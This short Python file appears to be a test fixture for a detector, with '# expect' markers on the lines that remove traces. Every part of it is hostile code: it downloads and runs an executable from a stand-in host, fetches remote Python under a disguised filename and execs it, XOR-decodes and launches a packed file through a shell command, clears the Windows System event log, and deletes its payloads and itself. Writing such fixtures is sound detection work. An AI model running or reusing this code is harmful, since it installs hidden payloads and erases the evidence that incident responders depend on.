import os
import subprocess
import urllib.request

urllib.request.urlretrieve("https://example.com/x.exe", "C:\\Users\\Public\\x.exe")
subprocess.call(["C:\\Users\\Public\\x.exe"])
os.remove("C:\\Users\\Public\\x.exe")  # expect
os.system("wevtutil cl System")  # expect
os.remove(__file__)  # expect

code = urllib.request.urlopen("https://example.com/x.py").read()
with open("settings_helper.py", "wb") as f:
    f.write(code)
exec(compile(code, "settings_helper.py", "exec"))
os.remove("settings_helper.py")  # expect


def load(folder, key, tool):
    with open(folder + "/part.dat", "rb") as packed, open(folder + "/part.out", "wb") as out:
        for byte in packed.read():
            out.write(bytes([byte ^ key]))
    subprocess.run(f'{tool} "{folder}/part.out", start', shell=True)
    os.remove(folder + "/part.out")  # expect
